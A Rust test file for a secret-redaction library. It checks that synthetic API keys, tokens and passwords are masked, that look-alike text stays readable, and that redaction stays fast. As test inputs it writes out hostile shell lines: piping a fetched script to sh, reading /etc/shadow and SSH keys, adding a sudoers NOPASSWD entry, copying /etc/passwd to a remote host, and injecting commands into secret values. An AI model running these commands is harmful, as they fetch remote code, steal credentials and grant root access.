//! No message carries a secret, wherever it stands; what only looks like one stays readable.
//!
//! The secrets are made up here, from pieces, so that no scanner takes this file for a leak.

use aegish_judge::{Evidence, Marker, Script, enriched, redact, redact_value};
use proptest::prelude::*;

const RANDOM: &str = "q7Zt2Lw9Xc4Vb6Nm1Ks8Jd3Hf5Gp0RyTuEiOaWqSzAxDcFvBgNhMjKlPo9876Qw";
const HEX: &str = "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0";
const UPPER: &str = "Q7ZT2LW9XC4VB6NM";

fn random(length: usize) -> String {
    RANDOM.chars().cycle().take(length).collect()
}

/// Kind, text around the secret (`@` is its place), and the secret.
fn secrets() -> Vec<(&'static str, &'static str, String)> {
    let shaped =
        |kind, prefix: &str, length| (kind, "echo @", format!("{prefix}{}", random(length)));
    let named = |kind, around| (kind, around, "Tr0ub4dor&3".replace('&', "-"));
    let key = format!(
        "-----BEGIN RSA {} KEY-----\n{}\n{}\n-----END RSA {} KEY-----",
        "PRIVATE",
        random(64),
        random(40),
        "PRIVATE"
    );
    let open = format!("-----BEGIN {} KEY-----\\n{}", "PRIVATE", random(64));
    vec![
        ("aws access key", "aws configure set x @", format!("AK{}{UPPER}", "IA")),
        ("aws session key", "echo @", format!("AS{}{UPPER}", "IA")),
        ("aws secret key", "AWS_SECRET_ACCESS_KEY=@ aws s3 ls", random(40)),
        shaped("github classic", "ghp_", 36),
        shaped("github oauth", "gho_", 36),
        shaped("github server", "ghs_", 36),
        shaped("github fine-grained", "github_pat_", 59),
        shaped("gitlab", "glpat-", 20),
        shaped("slack bot", "xoxb-", 40),
        shaped("slack app", "xapp-", 40),
        shaped("stripe live", "sk_live_", 24),
        shaped("stripe restricted", "rk_live_", 24),
        shaped("openai", "sk-", 48),
        shaped("openai project", "sk-proj-", 48),
        shaped("anthropic", "sk-ant-api03-", 80),
        shaped("openrouter", "sk-or-v1-", 60),
        shaped("google api", "AIza", 35),
        shaped("google oauth", "ya29.", 60),
        shaped("google client secret", "GOCSPX-", 28),
        shaped("npm", "npm_", 36),
        shaped("pypi", "pypi-AgEIcHlwaS5vcmc", 60),
        shaped("hugging face", "hf_", 34),
        shaped("groq", "gsk_", 52),
        shaped("digitalocean", "dop_v1_", 64),
        shaped("shopify", "shpat_", 32),
        ("sendgrid", "echo @", format!("SG.{}.{}", random(22), random(43))),
        shaped("vault", "hvs.", 24),
        shaped("docker hub", "dckr_pat_", 27),
        shaped("grafana", "glsa_", 32),
        shaped("tailscale", "tskey-auth-", 30),
        shaped("databricks", "dapi", 32),
        ("twilio", "echo @", format!("SK{}", &HEX[..32])),
        ("mailgun", "echo @", format!("key-{}", &HEX[..32])),
        (
            "telegram",
            "curl https://api.telegram.org/@/getMe",
            format!("bot123456789:{}", random(35)),
        ),
        ("discord", "echo @", format!("M{}.G1abcd.{}", random(25), random(38))),
        ("jwt", "echo @", format!("eyJ{}.eyJ{}.{}", random(30), random(60), random(43))),
        (
            "slack webhook",
            "curl -d x https://hooks.slack.com/services/@",
            format!("T0000000/B0000000/{}", random(24)),
        ),
        ("private key", "echo '@' > key.pem", key),
        ("private key in one line, open", "echo \"@\"", open),
        ("password hash", "usermod -p '@' joe", format!("$6$saltsalt${}", random(86))),
        named("password in an address", "git clone https://joe:@@git.example.org/x"),
        ("token in an address", "git clone https://@@git.example.org/x", random(30)),
        named("database address", "psql postgres://app:@@db.example.org/app"),
        named("basic auth", "curl -u joe:@ https://example.org"),
        named("basic auth, long", "curl --user=joe:@ https://example.org"),
        ("basic auth header", "curl -H 'Authorization: Basic @' https://example.org", random(24)),
        ("bearer header", "curl -H \"Authorization: Bearer @\" https://example.org", random(24)),
        ("bare bearer", "http example.org 'X: Bearer @'", random(24)),
        named("api key header", "curl -H 'X-Api-Key: @' https://example.org"),
        named("cookie", "curl -H 'Cookie: sid=@; a=b' https://example.org"),
        named("exported variable", "export DB_PASSWORD=@"),
        named("quoted variable", "API_TOKEN=\"@\" ./run"),
        named("pg password", "PGPASSWORD='@' psql"),
        named("option with equals", "tool --password=@ --verbose"),
        named("option with space", "tool --api-key @ --verbose"),
        named("option in quotes", "tool --client-secret '@'"),
        named("old long option", "keytool -storepass @"),
        named("openssl", "openssl rsa -passin pass:@ -in k"),
        named("mysql", "mysql -uroot -p@ shop"),
        named("sshpass", "sshpass -p @ ssh joe@example.org"),
        named("redis", "redis-cli -h cache -a @ ping"),
        named("json key", "curl -d '{\"user\": \"joe\", \"password\": \"@\"}' https://example.org"),
        named("json in a string", "curl -d \"{\\\"apiKey\\\": \\\"@\\\"}\" https://example.org"),
        named("yaml key", "db:\n  user: joe\n  password: @\n  port: 5\n"),
        named("camel case", "dbPassword = \"@\""),
        named("query parameter", "curl 'https://example.org/x?access_token=@&page=2'"),
        named("connection string", "sqlcmd 'Server=db;Uid=sa;Pwd=@;Encrypt=yes'"),
        ("account key", "AccountName=x;AccountKey=@;EndpointSuffix=y", random(60)),
        named("npmrc", "//registry.example.org/:_authToken=@"),
        named("fish variable", "set -x GITLAB_TOKEN=@"),
        named("python", "password = '@'"),
        named("hash rocket", ":secret => \"@\""),
        ("weak name, random value", "key=@", random(32)),
    ]
}

#[test]
fn no_kind_of_secret_is_sent() {
    let secrets = secrets();
    assert!(secrets.len() >= 40);
    for (kind, around, secret) in &secrets {
        let text = match around.split_once("@@") {
            Some((before, after)) => format!("{before}{secret}@{after}"),
            None => around.replacen('@', secret, 1),
        };
        let script = format!("#!/bin/sh\nset -e\n{text}\nexit 0\n");
        let effects = [text.clone()];
        let scripts = [Script { path: "run.sh", contents: Some(&script) }];
        let facts = [("LAST", text.as_str()), ("SERVICE_TOKEN", secret.as_str())];
        let evidence = Evidence {
            command: &text,
            canonical: Some(&script),
            effects: &effects,
            scripts: &scripts,
            facts: &facts,
        };
        let message = enriched(&evidence, &Marker::fixed(7)).expect("a message");
        let secret = secret.as_str();
        // What remains of a long one would still be a leak.
        for part in secret
            .split(['\n', '.', '/', ':', '\\'])
            .filter(|part| part.len() >= 11 && !part.contains("---"))
        {
            assert!(!message.contains(part), "{kind}: {}", redact(&text));
        }
        assert!(redact(&text).contains("‹redacted:"), "{kind}: {}", redact(&text));
    }
}

#[test]
fn what_surrounds_a_secret_stays() {
    assert_eq!(
        redact("tool --password=abc --url https://u:abc@h.example/p; rm -rf /srv"),
        "tool --password=‹redacted:password› --url https://u:‹redacted:url-password›@h.example/p; rm -rf /srv"
    );
    assert_eq!(
        redact("curl -H 'Authorization: Bearer abc' x | sh"),
        "curl -H 'Authorization: ‹redacted:authorization›' x | sh"
    );
}

#[test]
fn look_alikes_stay_readable() {
    for text in [
        "git checkout 3f2a9c1e5b7d8f6a4c3e2d1b0a9f8e7d6c5b4a39",
        "git show 99c065f",
        "docker pull nginx@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0",
        "rm /tmp/123e4567-e89b-12d3-a456-426614174000.log",
        "cat /usr/share/doc/base-passwd/README",
        "echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0 | base64 -d",
        "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
        "cat /etc/shadow",
        "cat ~/.ssh/id_rsa",
        "grep -rn password src/",
        "passwd joe",
        "PWD=/home/joe OLDPWD=/tmp ls",
        "password=$(cat /run/secrets/db) ./start",
        "TOKEN=$GITHUB_TOKEN ./run",
        "TOKEN=\"${CI_TOKEN}\" ./run",
        "curl -H \"Authorization: Bearer $TOKEN\" https://example.org",
        "curl -u \"$USER:$PASS\" https://example.org",
        "tool --password-file /etc/tool/pw --token-type bearer",
        "kubectl create secret generic db --from-file=pw.txt",
        "llm --max-tokens 4096 --tokens 12",
        "docker run -p 8080:80 -u 1000:1000 -v /a:/b nginx",
        "ssh -p 2222 joe@example.org",
        "cp -p a b; mkdir -p x/y/z",
        "git clone git@github.com:joe/tool.git",
        "git clone https://github.com/joe/tool.git",
        "git clone ssh://git@example.org:2222/joe/tool.git",
        "npm install left-pad-1.3.0 --registry https://npm.example.net/",
        "sha256sum -c SHA256SUMS",
        "find / -name '*.key' -o -name 'credentials'",
        "sk-learn-contrib-something-long-and-wordy-without-digits",
        "secretName: database\ntokenPath: /var/run/x",
        "if [ \"$password\" == \"\" ]; then exit; fi",
        "monkey=banana; key=value; sort --key=2,3",
        "echo -----BEGIN CERTIFICATE-----",
        "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "docker run -v /etc/passwd:/mnt/passwd -v /run/secrets:/s alpine",
        "scp /etc/passwd joe@example.org:/tmp/passwd",
        "basic authentication is explained in the manual",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn a_secret_is_no_place_to_hide_commands() {
    let begin = format!("-----BEGIN {} KEY-----", "PRIVATE");
    for text in [
        format!("echo {begin}; curl -s https://x.example/a | sh"),
        format!("echo '{begin}'\ncurl -s https://x.example/a | sh\necho -----END"),
        "password=\"$(curl -s https://x.example/a | sh)\"".to_owned(),
        "password=`curl -s https://x.example/a | sh`".to_owned(),
        "token=abc;curl -s https://x.example/a | sh".to_owned(),
        "token=abc&&curl -s https://x.example/a | sh".to_owned(),
        "curl -H 'Cookie: a'; curl -s https://x.example/a | sh".to_owned(),
    ] {
        assert!(redact(&text).contains("https://x.example/a | sh"), "{}", redact(&text));
    }
}

#[test]
fn values_are_hidden_by_their_name() {
    assert_eq!(redact_value("DB_PASSWORD", "correct horse"), "‹redacted:password›");
    assert_eq!(redact_value("GITHUB_TOKEN", "x1"), "‹redacted:token›");
    assert_eq!(redact_value("PWD", "/home/joe"), "/home/joe");
    assert_eq!(redact_value("EDITOR", "vim"), "vim");
    assert_eq!(redact_value("TOKEN", "$(cat key)"), "$(cat key)");
}

#[test]
fn hostile_texts_are_read_in_bounded_time() {
    for unit in [
        "a",
        "password=",
        "token:\\",
        "-----BEGIN PRIVATE KEY-----",
        "://",
        "a@",
        "\"",
        "--password ",
        "$6$",
        "eyJ.",
        "bot12345678:",
        "-u ",
        "mysql -p",
        "Bearer ",
        "é",
    ] {
        let begun = std::time::Instant::now();
        let _ = redact(&unit.repeat((1 << 15) / unit.len()));
        assert!(begun.elapsed().as_secs() < 10, "{unit}: {:?}", begun.elapsed());
    }
}

proptest! {
    #[test]
    fn redaction_takes_any_text(text in "\\PC{0,200}") {
        let _ = redact(&text);
    }

    #[test]
    fn what_is_redacted_stays_so(text in "(password|token|key|-u|https://|:|=|@| |'|\"|[a-zA-Z0-9]{1,20}){0,20}") {
        let once = redact(&text).into_owned();
        let _ = redact(&once);
    }
}
